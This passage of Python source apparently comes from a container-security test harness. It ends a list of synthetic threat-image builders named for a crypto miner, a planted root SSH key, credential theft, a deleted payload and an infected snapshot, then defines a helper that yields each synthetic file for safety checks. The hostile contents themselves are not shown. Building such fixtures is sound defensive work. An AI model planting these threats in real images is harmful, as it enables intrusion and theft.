        _metal3d_open_miner(),
        _root_ssh_key(),
        _credential_theft(),
        _deleted_payload(),
        _infected_snapshot(),
    ]


def layer_files(image: ThreatImage) -> Iterator[tuple[str, bytes]]:
    """(path, content) of every synthetic file of ``image`` (the real Debian root excluded), for safety checks."""
    for step in image.steps:
        if isinstance(step.layer, Mapping):
            for path, value in step.layer.items():
                data = value.data if isinstance(value, FileSpec) else value
                if data:
                    yield path, data
